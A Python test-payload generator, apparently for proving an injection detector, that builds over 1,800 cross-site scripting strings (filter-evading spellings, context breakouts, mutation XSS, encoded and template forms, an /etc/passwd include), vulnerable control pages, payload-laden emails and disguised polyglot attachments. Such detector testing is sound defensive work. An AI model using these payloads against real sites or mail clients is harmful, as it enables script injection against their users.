"""Script payloads for every place where text of others is shown.

``payloads()`` gives at least 1,800 different ones, always the same in the same order. Each
calls a marker with its own number; ``home`` is the place in a page where it works when
nobody protects that place, which ``document`` makes, so that a detector can be proven.
The names of elements, events and link attributes come from lxml, those of characters from
the standard library.
"""

from __future__ import annotations

import base64
import email.policy
import html
import io
import itertools
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.header import Header
from email.message import EmailMessage
from functools import cache
from urllib.parse import quote

from lxml.html import defs

LEAST = 1_800


@dataclass(frozen=True)
class Payload:
    number: int
    kind: str
    home: str
    text: str


# How a number is told: the browser of the test turns alert, confirm, prompt and print into
# a message. None holds a double quote.
CODES: tuple[Callable[[int], str], ...] = (
    lambda n: f"alert({n})",
    lambda n: f"alert`{n}`",
    lambda n: f"window['al'+'ert']({n})",
    lambda n: f"(confirm)({n})",
    lambda n: f"setTimeout('alert({n})')",
    lambda n: f"eval('al'+'ert({n})')",
    lambda n: f"console.log('uitgevoerd:{n}')",
    lambda n: (
        f"document.documentElement.setAttribute('data-uitgevoerd-{n}','');prompt({n})"
    ),
    lambda n: f"[{n}].map(alert)",
    lambda n: f"\\u0061lert({n})",
    lambda n: f"Function('alert({n})')()",
    lambda n: f"eval(atob('{base64.b64encode(f'alert({n})'.encode()).decode()}'))",
    lambda n: f"self[/*x*/'alert'/**/]({n})",
    lambda n: f"new Image().src='x';top.alert({n})",
)
Make = Callable[[str], str]

SCRIPTS = (
    "<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script/x>{c}</script/x>",
    "<script\n>{c}</script\n>", "<script\t\f>{c}</script >", "<script type=module>{c}</script>",
    "<script type='text/javascript'>{c}</script>", "<script async>{c}</script>",
    "<script language=javascript>{c}</script>", "<script>//\n{c}\n</script>",
    "<script><!--\n{c}\n--></script>", "<<script>{c}//<</script>", "<b><script>{c}</script></b>",
    "<script src=\"data:text/javascript,{u}\"></script>",
    "<script src=data:text/javascript;base64,{b}></script>",
    "<script type=importmap>{{}}</script><script type=module>{c}</script>",
    "<table><tr><script>{c}</script></table>", "<p title='<!--'><script>{c}</script>",
    "<svg><script>{c}</script></svg>", "<svg><script href=\"data:text/javascript,{u}\"></script></svg>",
    "<svg><script xlink:href=\"data:text/javascript,{u}\" /></svg>",
    "<svg><script>{e}</script></svg>", "<svg><g><script><![CDATA[{c}]]></script></g></svg>",
    "<svg><foreignObject><script>{c}</script></foreignObject></svg>",
    "<math><mtext><script>{c}</script></mtext></math>",
    "<iframe srcdoc=\"<script>{c}</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;{c}&lt;/script&gt;\"></iframe>",
    "<iframe src=\"data:text/html,<script>{u}</script>\"></iframe>",
    "<object data=\"data:text/html,<script>{u}</script>\"></object>",
    "<embed src=\"data:text/html,<script>{u}</script>\">",
    "<iframe src='data:text/html;base64,{s}'></iframe>",
    "<iframe src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>{u}</script></svg>\"></iframe>",
    "<embed src=\"data:image/svg+xml;base64,{v}\">",
    "<object type=text/html data=\"data:text/html;base64,{s}\"></object>",
)  # fmt: skip

# Elements that call an event by themselves.
SELF_FIRING = (
    "<img src=x onerror=\"{c}\">", "<img src='' onerror=\"{c}\">", "<image src=x onerror=\"{c}\">",
    "<svg onload=\"{c}\">", "<svg/onload=\"{c}\">", "<body onload=\"{c}\">",
    "<input autofocus onfocus=\"{c}\">", "<select autofocus onfocus=\"{c}\"></select>",
    "<textarea autofocus onfocus=\"{c}\"></textarea>", "<details open ontoggle=\"{c}\"><p>x</details>",
    "<video src=x onerror=\"{c}\"></video>", "<audio src=x onerror=\"{c}\"></audio>",
    "<video><source src=x onerror=\"{c}\"></video>", "<iframe onload=\"{c}\"></iframe>",
    "<style onload=\"{c}\"></style>", "<link rel=stylesheet href=\"data:text/css,\" onload=\"{c}\">",
    "<script src=x onerror=\"{c}\"></script>", "<object data=x onerror=\"{c}\"></object>",
    "<svg><image href=x onerror=\"{c}\"></image></svg>", "<svg><animate onbegin=\"{c}\" attributeName=x dur=1s>",
    "<svg><set onbegin=\"{c}\" attributeName=x to=1 dur=1s>", "<b tabindex=1 autofocus onfocus=\"{c}\">x</b>",
    "<style>@keyframes z{{}}</style><b style=\"animation-name:z;animation-duration:1s\" onanimationstart=\"{c}\">x</b>",
    "<p contenteditable autofocus onfocus=\"{c}\">x</p>", "<video autoplay muted onloadstart=\"{c}\" src=x></video>",
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\" onload=\"{c}\">",
    "<picture><source srcset=y><img src=x onerror=\"{c}\"></picture>",
    "<input type=image src=x onerror=\"{c}\">", "<track default src=x onerror=\"{c}\"><img src=x onerror=\"{c}\">",
    "<svg><foreignObject><img src=x onerror=\"{c}\"></foreignObject></svg>",
    "<math><mi><img src=x onerror=\"{c}\"></mi></math>",
)  # fmt: skip

# The same element in other spellings: what a filter of text would trip over.
SPELLINGS = (
    "<img/src='x'/onerror=\"{c}\">", "<img\tsrc=x\tonerror=\"{c}\">", "<img\nsrc=x\nonerror=\n\"{c}\">",
    "<img\fsrc=x\fonerror=\"{c}\">", "<IMG SRC=X ONERROR=\"{c}\">", "<iMg sRc=x oNeRrOr=\"{c}\">",
    "<img src=\"x\"onerror=\"{c}\">", "<img src='x' onerror='{d}'>", "<img src=x onerror=\"{e}\">",
    "<img src=x onerror=\"{h}\">", "<img src=x onerror=\"&#x20;{c}\">", "<img src=x onerror=\"{c}\"",
    "<img src=x onerror=\"{c}\"//", "<img \"\"\"><img src=x onerror=\"{c}\">\">",
    "<img src=x:x onerror=\"{c}\">", "<img src=x a='>' onerror=\"{c}\">", "<img x=`y` src=x onerror=\"{c}\">",
    "</p><img src=x onerror=\"{c}\">", "<x><img src=x onerror=\"{c}\"></x>",
    "<img src=x onerror =\"{c}\">", "<img src=x onerror= \"{c}\">", "<img src=\"x` `\" onerror=\"{c}\">",
    "<?xml version='1.0'?><img src=x onerror=\"{c}\">", "<!doctype x><img src=x onerror=\"{c}\">",
    "<!--><img src=x onerror=\"{c}\">", "<!--x--!><img src=x onerror=\"{c}\">", "<![CDATA[><img src=x onerror=\"{c}\">]]>",
    "<//x><img src=x onerror=\"{c}\">", "<% x ><img src=x onerror=\"{c}\">", "<a b='<img src=x onerror=\"{c}\">'><img src=x onerror=\"{c}\">",
)  # fmt: skip

LINKS = (
    '<a href="{j}">x</a>', '<a href={j}>x</a>', '<a href=" {j}">x</a>', '<a target=_self href="{j}">x</a>',
    '<svg><a href="{j}"><text y=9>x</text></a></svg>', '<svg><a xlink:href="{j}"><text y=9>x</text></a></svg>',
    '<iframe src="{j}"></iframe>', '<form action="{j}"><button>x</button></form>',
    '<form><button formaction="{j}">x</button></form>', '<form><input type=submit formaction="{j}"></form>',
    '<map name=m><area href="{j}" shape=default></map><img usemap=#m src=x>',
    '<form><input type=image src=x formaction="{j}"></form>', '<iframe name=y></iframe><a target=y href="{j}">x</a>', '<form id=f action="{j}"></form><button form=f>x</button>',
    '<math><mtext><a href="{j}">x</a></mtext></math>', '<details open><summary><a href="{j}">x</a></summary></details>',
    '<svg><a><animate attributeName=href values="{j}" dur=9s fill=freeze /><text y=9>x</text></a></svg>',
    '<a href="x" href="{j}">x</a><a href="{j}">y</a>',
)  # fmt: skip
SCHEMES: tuple[Make, ...] = (
    lambda c: f"javascript:{c}",
    lambda c: f"JaVaScRiPt:{c}",
    lambda c: f"java\tscript:{c}",
    lambda c: f"java\nscript:{c}",
    lambda c: f"java&#9;script:{c}",
    lambda c: f"java&Tab;script&colon;{c}",
    lambda c: f"&#106;&#97;&#118;&#97;script:{c}",
    lambda c: f"&#x6A&#x61;vascript&#58;{c}",
    lambda c: f"&#0000106avascript:{c}",
    lambda c: f"&#1;javascript:{c}",
    lambda c: f"javascript://x%0a{c}",
    lambda c: f"javascript:/**/{c}",
    lambda c: f"javascript:void({c})",
)

BREAKOUTS = (
    ("attribuut", "\"><img src=x onerror=\"{c}\">"), ("attribuut", "\"><svg onload=\"{c}\">"),
    ("attribuut", "\" autofocus onfocus=\"{c}"), ("attribuut", "\" autofocus onfocus=\"{c}\" x=\""),
    ("attribuut", "\" onmouseover=\"{c}\" x=\""), ("attribuut", "\"onclick=\"{c}"), ("attribuut", "\"/><script>{c}</script>"),
    ("attribuut", "\" style=\"x\" onmouseenter=\"{c}"), ("attribuut", "x\"\tautofocus\tonfocus=\"{c}"),
    ("attribuut", "\">'><img src=x onerror=\"{c}\">"),
    ("aanhaling", "'><img src=x onerror=\"{c}\">"), ("aanhaling", "' autofocus onfocus=\"{c}\" x='"),
    ("aanhaling", "' onmouseover=\"{c}\" x='"), ("aanhaling", "'/><svg/onload=\"{c}\">"), ("aanhaling", "\"'><script>{c}</script>"),
    ("kaal", "x autofocus onfocus={k}"), ("kaal", "x onmouseover={k}"), ("kaal", "x><svg/onload={k}>"), ("kaal", "x\tonclick={k}"),
    ("titel", "</title><img src=x onerror=\"{c}\">"), ("titel", "</TITLE ><script>{c}</script>"), ("titel", "</title/><svg onload=\"{c}\">"),
    ("tekstvak", "</textarea><img src=x onerror=\"{c}\">"), ("tekstvak", "</TextArea\n><script>{c}</script>"),
    ("stijl", "</style><img src=x onerror=\"{c}\">"), ("stijl", "}}</style ><script>{c}</script>"),
    ("commentaar", "--><img src=x onerror=\"{c}\">"), ("commentaar", "--!><img src=x onerror=\"{c}\">"), ("commentaar", "><img src=x onerror=\"{c}\">"),
    ("script", "\";{c}//"), ("script", "\"-{k}-\""), ("script", "\"+({k})+\""), ("script", "</script><img src=x onerror=\"{c}\">"),
    ("script", "</SCRIPT ><svg/onload=\"{c}\">"), ("script", "\";{c};x=\""), ("script", "\\\n\";{c}//"),
    ("scriptenkel", "'-{k}-'"), ("scriptenkel", "';{k}//"), ("scriptenkel", "\\\\';{k}//"), ("scriptenkel", "'}};{k};{{'"),
    ("sjabloon", "${{{k}}}"), ("sjabloon", "`+{k}+`"), ("sjabloon", "`;{k}//"), ("sjabloon", "x${{ ({k}) }}x"),
    ("json", "</script><script>{c}</script>"), ("json", "</script/x><img src=x onerror=\"{c}\">"),
    ("json", "<!--</script><img src=x onerror=\"{c}\">"),
    ("keuze", "</option></select><img src=x onerror=\"{c}\">"), ("noscript", "</noscript><img src=x onerror=\"{c}\">"),
    ("adres", "{j}"), ("adres", " {j}"), ("adres", "data:text/html;base64,{s}"),
    ("ingebed", "&lt;img src=x onerror=&quot;{c}&quot;&gt;"), ("ingebed", "&#60;svg onload=&#34;{c}&#34;&#62;"),
    ("ingebed", "&#x3c;script&#x3e;{c}&#x3c;/script&#x3e;"), ("ingebed", "&LT;img src=x onerror=&QUOT;{c}&QUOT;&GT;"),
)  # fmt: skip

# Harmless when read once, a script when what came out is read again.
MUTATIONS = (
    "<noscript><p title=\"</noscript>{v}\">", "<noembed><p title=\"</noembed>{v}\">", "<noframes><p title=\"</noframes>{v}\">",
    "<xmp><p title=\"</xmp>{v}\">", "<iframe><p title=\"</iframe>{v}\">", "<style><p title=\"</style>{v}\">",
    "<textarea><p title=\"</textarea>{v}\">", "<title><p title=\"</title>{v}\">", "<script><p title=\"</script>{v}\">",
    "<svg></p><style><a id=\"</style>{v}\">", "<svg><p><style><g title=\"</style>{v}\">",
    "<math></p><style><!--</style>{v}-->", "<svg><style>/*</style>*/{v}", "<svg><desc><style></desc>{v}</style>",
    "<form><math><mtext></form><form><mglyph><style></math>{v}",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{w}\">",
    "<math><mtext><table><mglyph><style><math><img title=\"</style>{v}\">",
    "<math><mi><mglyph><svg><style>{v}</style></mglyph></mi>", "<svg><title><style><img title=\"</style>{v}\">",
    "<math><annotation-xml encoding=\"text/html\"><style>{v}</style>", "<math><annotation-xml><style><a title=\"</style>{v}\">",
    "<svg><foreignObject><math><style>{v}</style></math></foreignObject></svg>", "<template><style></template>{v}</style>",
    "<select><template><style>{v}</style></template></select>", "<select><style></select>{v}</style>",
    "<table><td><svg><style></table>{v}", "<p><svg><title><p><style></title>{v}</style>", "<a><svg></a><style></style>{v}</svg>",
    "<listing>\n{w}</listing>{v}", "<plaintext>{v}", "<!-- --!>{v}-->", "<!-- <!-- -->{v}-->", "<![CDATA[ ]]>{v}", "<?x ?>{v}",
    "<svg><![CDATA[</svg>{v}]]>", "<svg><!--</svg>-->{v}", "<b <script></b>{v}", "<div id=\"</div>{v}\"><p></div>{v}",
)  # fmt: skip
MUTATED = (
    "<img src=x onerror={k}>", "<svg onload={k}>", "<script>{k}</script>", "<a href=javascript:{k}>x</a>",
    "<details open ontoggle={k}>", "<iframe srcdoc='<script>{k}</script>'></iframe>",
)  # fmt: skip

# Not HTML as it stands: it becomes so when somebody decodes, normalises or lays out the text.
CODED: tuple[tuple[str, Make], ...] = (
    ("procent", lambda t: quote(t, safe="")),
    ("procent", lambda t: "".join(f"%{b:02x}" for b in t.encode())),
    ("jstekst", lambda t: "".join(f"\\x{ord(s):02x}" for s in t)),
    ("jstekst", lambda t: t.replace("<", "\\u003c").replace(">", "\\u003e")),
    ("jstekst", lambda t: t.replace("<", "\\74").replace(">", "\\76")),
    ("nfkc", lambda t: "".join(chr(ord(s) + 0xFEE0) if "!" <= s <= "~" else s for s in t)),
    ("nfkc", lambda t: t.replace("<", "\ufe64").replace(">", "\ufe65")),
    ("tweemaal", lambda t: html.escape(html.escape(t))),
    ("tweemaal", lambda t: "".join(f"&amp;#{ord(s)};" for s in t)),
    ("ingebed", lambda t: "".join(f"&#{ord(s)};" for s in t)),
    ("ingebed", lambda t: "".join(f"&#x{ord(s):06x};" for s in t)),
    ("eenmaal", lambda t: t.replace("<", "&lt").replace(">", "&gt").replace('"', "&quot;")),
    ("leeg", lambda t: t.replace("<", "<\u200b", 1) + t),
    ("leeg", lambda t: f"\u202e{t}\u202c"),
    ("leeg", lambda t: f"\ufeff\u2028{t}\u2029"),
    ("leeg", lambda t: f"e\u0301\U0001f9d1\u200d\U0001f33e{t}"),
    ("geen", lambda t: t.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")),
    ("geen", lambda t: t.replace("<", "\u2039").replace(">", "\u203a")),
    ("geen", lambda t: t.replace("<", "\u00ab\u3008").replace(">", "\u3009")),
    ("geen", lambda t: base64.b64encode(t.encode()).decode()),
    ("geen", lambda t: t.replace("<", "<\u200b").replace("on", "o\u200bn")),
)  # fmt: skip

# Read by a template engine, by Markdown or by htmx, not by a browser.
OTHERS = (
    "{{{{ {c} }}}}", "{{{{constructor.constructor('{d2}')()}}}}", "{{{{ '<img src=x onerror={k}>'|safe }}}}",
    "{{% autoescape off %}}<img src=x onerror={k}>{{% endautoescape %}}", "{{% include '/etc/passwd' %}}{{# {c} #}}",
    "<%= {c} %>", "#{{{c}}}", "[[${{{k}}}]]", "[x](javascript:{k})", "[x](JaVaScRiPt&colon;{k})", "[x](<java\tscript:{k}>)",
    "[x]( javascript:{k} 'y')", "![x](javascript:{k})", "![x\" onerror=\"{k}](x)", "![x](x\"onerror=\"{k})", "<javascript:{k}>",
    "[x][y]\n\n[y]: javascript:{k}", "[x](data:text/html;base64,{s})", "```html\n<script>{k}</script>\n```",
    "<div markdown=1><script>{k}</script></div>", "> <img src=x onerror={k}>", "[<img src=x onerror={k}>](x)",
    "|a|\n|-|\n|<img src=x onerror={k}>|", "<http://x\"onmouseover=\"{k}>", "[x](http://a\"onmouseover={k}//)",
    "<div hx-on:load={k} hx-trigger=load hx-get=/>", "<div hx-get=/ hx-vals='js:{k}' hx-trigger=load>",
    "<div hx-trigger='load[{k}]' hx-get=/>", "<div data-suggesties='javascript:{k}'>", "<base href='javascript:{k}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{k}'>", "<meta http-equiv=refresh content='0;url=data:text/html;base64,{s}'>",
    "<link rel=import href='data:text/html;base64,{s}'>", "<div style='background:url(javascript:{k})'>", "<div style='width:expression({k})'>",
    "<style>@import'javascript:{k}';</style>", "<div style='-moz-binding:url(data:text/xml,{k})'>", "<img src=javascript:{k}>", "<embed src=javascript:{k}>", "<object data=javascript:{k}></object>", "<body onunload={k}>", "<marquee onstart={k}>x</marquee>", "<bgsound src=javascript:{k}>",
    "<table background=javascript:{k}>", "<input type=image src=javascript:{k}>", "<xml src=javascript:{k}>", "<a href=vbscript:{k}>x</a>",
    "<svg><use href='data:image/svg+xml;base64,{v}#x'/></svg>", "<a href='data:text/html;base64,{s}'>x</a>", "X-Kop: x\r\n\r\n<script>{k}</script>",
    "=?utf-8?B?{s}?=", "=?utf-8?Q?=3Cscript=3E{k}=3C/script=3E?=", "javascript:{k}", "https://x.example/<script>{k}</script>",
    "https://x.example/?q=\"><img src=x onerror={k}>", "mailto:x@x.example?subject=<img src=x onerror={k}>", "cid:x\" onerror=\"{k}",
)  # fmt: skip

EVENTS = (
    *sorted(defs.event_attrs - {"onunload"}), "onfocusin", "onpointerenter", "onpointerdown", "onwheel", "onanimationend", "oncopy",
    "onpaste", "ondragstart", "oncontextmenu", "oninput", "oninvalid", "onbeforeinput", "onauxclick", "onpointerover",
    "ontouchstart", "onscroll", "ontoggle", "onbeforetoggle",
)  # fmt: skip
ELEMENTS = (
    "a",
    "b",
    "u",
    "input",
    "svg",
    "x-y",
    "button",
    "label",
    "video",
    "form",
    "summary",
)


def _fill(pattern: str, n: int, code: str) -> str:
    plain = f"alert({n})"
    script = f"<script>{plain}</script>"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>"

    def b64(text: str) -> str:
        return base64.b64encode(text.encode()).decode()

    return pattern.format(
        c=code,
        k=plain,
        d=plain,
        d2=plain,
        u=quote(code, safe="()"),
        b=b64(code),
        s=b64(script),
        v=b64(svg),
        e="".join(f"&#{ord(s)};" for s in plain),
        h="".join(f"&#x{ord(s):04X}" for s in plain) + ";",
        j=f"javascript:{plain}",
    )


def _patterns() -> Iterator[tuple[str, str, Callable[[int, str], str]]]:
    """Kind, home, and what makes the text of a number and a code."""

    def of(pattern: str) -> Callable[[int, str], str]:
        return lambda n, c: _fill(pattern, n, c)

    for pattern in SCRIPTS:
        yield from [("script", "leeg", of(pattern))] * 5
    for pattern in SELF_FIRING:
        yield from [("gebeurtenis", "leeg", of(pattern))] * 8
    for pattern in SPELLINGS:
        yield from [("spelling", "leeg", of(pattern))] * 6
    for event, element in itertools.product(EVENTS, ELEMENTS):
        yield "attribuut", "leeg", of(f'<{element} {event}="{{c}}">x</{element}>')
    for link, scheme in itertools.product(LINKS, SCHEMES):
        if "={j}" in link and "\t" in scheme("") + scheme("").replace("\n", "\t"):
            continue
        yield (
            "adres",
            "leeg",
            lambda n, c, link=link, scheme=scheme: link.format(j=scheme(f"alert({n})")),
        )
    for home, pattern in BREAKOUTS:
        yield from [("uitbraak", home, of(pattern))] * 4
    for pattern, inner in itertools.product(MUTATIONS, MUTATED):

        def mutate(n: int, c: str, pattern: str = pattern, inner: str = inner) -> str:
            filled = _fill(inner, n, c)
            return pattern.format(v=filled, w=html.escape(filled, quote=False))

        yield "mutatie", "mutatie", mutate
    shapes = (*MUTATED[:4], '<img src=x onerror="{c}">')
    for (home, code), shape in itertools.product(CODED, shapes):
        yield (
            "codering",
            home,
            lambda n, c, code=code, shape=shape: code(_fill(shape, n, c)),
        )
    for pattern in OTHERS:
        yield from [("anders", "geen", of(pattern))] * 2


@cache
def payloads() -> tuple[Payload, ...]:
    """All payloads, each different; the number of each is its place."""
    found: list[Payload] = []
    for turn, (kind, home, make) in enumerate(_patterns()):
        number = 1000 + len(found)
        found.append(
            Payload(number, kind, home, make(number, CODES[turn % len(CODES)](number)))
        )
    return tuple(found)


@cache
def part(share: int) -> tuple[Payload, ...]:
    """A fixed slice: of every kind and home the first, and beside those one in ``share``."""
    seen: set[tuple[str, str]] = set()
    kept = []
    for place, one in enumerate(payloads()):
        if place % share == 0 or (one.kind, one.home) not in seen:
            seen.add((one.kind, one.home))
            kept.append(one)
    return tuple(kept)


# -- the control: a page that protects nothing ------------------------------------------

_HOMES = {
    "leeg": "{t}\n<p>rest</p>",
    "attribuut": '<input value="{t}">',
    "aanhaling": "<input value='{t}'>",
    "kaal": "<input value={t}>",
    "titel": "<title>{t}</title>",
    "tekstvak": "<textarea>{t}</textarea>",
    "stijl": "<style>{t}</style>",
    "commentaar": "<!--{t}-->",
    "script": '<script>var x = "{t}"</script>',
    "scriptenkel": "<script>function f() {{}} {{ let x = '{t}'\n}}</script>",
    "sjabloon": "<script>var x = `{t}`</script>",
    "json": '<script type="application/json">"{t}"</script>',
    "keuze": "<select><option>{t}</option></select>",
    "noscript": "<noscript>{t}</noscript>",
    "adres": '<a href="{t}">x</a>',
    "ingebed": '<iframe srcdoc="{q}"></iframe>',
}
# What a page does that decodes what it should only show.
_DECODED = {
    "procent": "decodeURIComponent(t)",
    "jstekst": "eval('\"' + t.replaceAll('\"', '\\\\\"') + '\"')",
    "nfkc": "t.normalize('NFKC')",
    "eenmaal": "new DOMParser().parseFromString(t, 'text/html').documentElement.textContent",
    "tweemaal": "[1, 2].reduce(s => new DOMParser().parseFromString(s, 'text/html').documentElement.textContent, t)",
    "mutatie": "[1, 2].reduce(s => new DOMParser().parseFromString(s, 'text/html').body.innerHTML, t)",
}  # fmt: skip


def document(one: Payload) -> str:
    """A document in which this payload stands unprotected, at its home."""
    if one.home in _DECODED:
        text = json.dumps(one.text).replace("<", "\\u003c").replace(">", "\\u003e")
        return (
            f"<!doctype html><body><script>const t = {text};"
            f"document.write({_DECODED[one.home]})</script>"
        )
    pattern = _HOMES.get(one.home, "{t}")
    inner = one.text.replace('"', "&quot;")
    return "<!doctype html><body>" + pattern.format(t=one.text, q=inner)


# -- a mail that holds them everywhere --------------------------------------------------


def groups(rows: tuple[Payload, ...], limit: int = 118) -> list[list[Payload]]:
    """Those that fit together in the name of one sender (120), or else stand alone."""
    made: list[list[Payload]] = []
    room: list[int] = []
    for one in sorted(rows, key=lambda one: (-len(one.text), one.number)):
        needed = len(one.text) + 1
        place = next((at for at, left in enumerate(room) if left >= needed), None)
        if place is None:
            made.append([])
            room.append(limit)
            place = len(made) - 1
        made[place].append(one)
        room[place] -= needed
    return made


def _one_line(text: str) -> str:
    return re.sub(r"[\x00-\x1f\x7f]+", " ", text)


def header(text: str, turn: int) -> bytes:
    """A header value in one of the ways that mail programs write it."""
    text = _one_line(text)
    kind = turn % 5
    if kind == 1:
        return b" ".join(
            b"=?utf-8?Q?" + b"".join(b"=%02X" % byte for byte in piece.encode()) + b"?="
            for piece in (text[at : at + 12] for at in range(0, len(text), 12))
        ).replace(b" ", b"\r\n ")
    if kind == 2:
        return text.encode()
    if kind == 3:
        return text.replace(" ", "\r\n ").encode()
    if kind == 4:
        return b"=?utf-8?b?" + base64.b64encode(text.encode()) + b"?="
    return Header(text, "utf-8").encode(linesep="\r\n").encode()


def _quoted(text: str, turn: int) -> bytes:
    """A display name: encoded, or as a quoted string."""
    if turn % 5 in (2, 3):
        plain = _one_line(text).replace("\\", "\\\\").replace('"', '\\"')
        folded = plain.replace(" ", "\r\n ") if turn % 5 == 3 else plain
        return f'"{folded}"'.encode()
    return header(text, turn)


def mail(
    rows: list[Payload],
    *,
    sender: str,
    to: str,
    turn: int,
    word: str = "",
    only_html: bool = False,
    message_id: str,
) -> bytes:
    """Raw bytes: every payload in subject, name, text, HTML and names of files."""
    joined = " ".join(one.text for one in rows)
    message = EmailMessage(policy=email.policy.SMTP)
    message["MIME-Version"] = "1.0"
    text = "\n\n".join(one.text for one in rows) + f"\n\n{word}\n"
    body = [f"<html><body><p>{word}</p>{one.text}</body></html>" for one in rows]
    if only_html:
        message.set_content(body[0], subtype="html")
        for more in body[1:]:
            message.add_attachment(
                more.encode(), maintype="text", subtype="html", disposition="inline"
            )
    else:
        message.set_content(text)
        message.add_alternative(body[0], subtype="html")
    for one in rows:
        name = _one_line(one.text)
        message.add_attachment(
            one.text.encode(),
            maintype="text",
            subtype=("plain", "html", "xml")[turn % 3],
            filename=f"{name}.txt"[-240:],
        )
    rest = message.as_bytes()
    return (
        b"From: " + _quoted(joined, turn) + f" <{sender}>\r\nTo: {to}\r\nSubject: ".encode()
        + header(f"{word} {joined}", turn + 2)
        + f"\r\nMessage-ID: <{message_id}@elders.example>\r\n".encode()
        + rest
    )  # fmt: skip


def _zipped(names: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return out.getvalue()


def files(number: int) -> list[tuple[str, str, bytes]]:
    """Attachments that would run when a browser opened them: name, declared kind, bytes."""
    script = f"<script>alert({number})</script>".encode()
    page = b"<!doctype html><html><body>" + script + b"</body></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>"
    xhtml = (
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body>'
        + script
        + b"</body></html>"
    )
    xslt = (
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,'
        b"%3Cxsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'%3E"
        b"%3Cxsl:template match='/'%3E" + quote(script).encode() + b'%3C/xsl:template%3E%3C/xsl:stylesheet%3E"?>' + xhtml
    )  # fmt: skip
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0"
    jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
    return [
        ("plaatje.svg", "image/svg+xml", svg),
        ("plaatje.svg", "image/png", svg),
        ("plaatje.png", "image/svg+xml", svg),
        ("pagina.html", "text/html", page),
        ("pagina.htm", "text/plain", page),
        ("pagina.HTML", "application/octet-stream", page),
        ("pagina.xhtml", "application/xhtml+xml", xhtml),
        ("pagina.xml", "text/xml", xhtml),
        ("stijl.xml", "application/xml", xslt),
        ("pagina.xht", "application/xhtml+xml", xhtml),
        ("pagina.shtml", "text/html", page),
        ("pagina.mhtml", "multipart/related", b"From: x\r\nContent-Type: text/html\r\n\r\n" + page),
        ("pagina.hta", "application/hta", page),
        ("pagina.pdf", "text/html", page),
        ("pagina.txt", "text/html", page),
        ("pagina.txt", "text/plain; charset=utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + page),
        ("pagina.csv", "text/csv", page),
        ("pagina.txt", "text/plain", b"\xef\xbb\xbf" + page),
        ("pagina.txt", "text/plain", page.decode().encode("utf-16")),
        ("pagina.html.txt", "text/html", page),
        ("pagina.txt\u202elmth.", "text/html", page),
        ("pagina.html\u200b", "text/html", page),
        ("pagina.html.", "text/html", page),
        ("pagina", "text/html", page),
        ("../../pagina.html", "text/html", page),
        ("echt.png", "image/png", png + page),
        ("echt.html", "image/png", png + page),
        ("echt.jpg", "text/html", jpeg + page),
        ("echt.pdf", "application/pdf", pdf + page + b"\n%%EOF"),
        ("echt.html", "application/pdf", pdf + page),
        ("animatie.gif", "image/gif", b"GIF89a/*" + b"\0" * 8 + b"*/=alert(1)//" + page),
        ("brief.docx", "text/html", _zipped({"[Content_Types].xml": page, "word/document.xml": xhtml})),
        ("code.js", "text/javascript", b"alert(1)"),
        ("agenda.ics", "text/calendar", b"BEGIN:VCALENDAR\r\nSUMMARY:" + script + b"\r\nEND:VCALENDAR"),
        ("kaart.vcf", "text/vcard", b"BEGIN:VCARD\r\nFN:" + script + b"\r\nEND:VCARD"),
        ("bericht.eml", "message/rfc822", b"Subject: x\r\nContent-Type: text/html\r\n\r\n" + page),
    ]  # fmt: skip


def mail_with_files(*, number: int, run: str, sender: str, to: str) -> bytes:
    message = EmailMessage(policy=email.policy.SMTP)
    message["From"], message["To"] = sender, to
    message["Subject"] = f"Bestanden {number}"
    message["Message-ID"] = f"<bestanden.{run}@elders.example>"
    message.set_content("Zie de bestanden bij deze vraag over wonen.")
    for name, kind, data in files(number):
        maintype, _slash, subtype = kind.partition(";")[0].partition("/")
        if maintype in ("multipart", "message"):
            maintype, subtype = "application", "octet-stream"
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message.as_bytes()
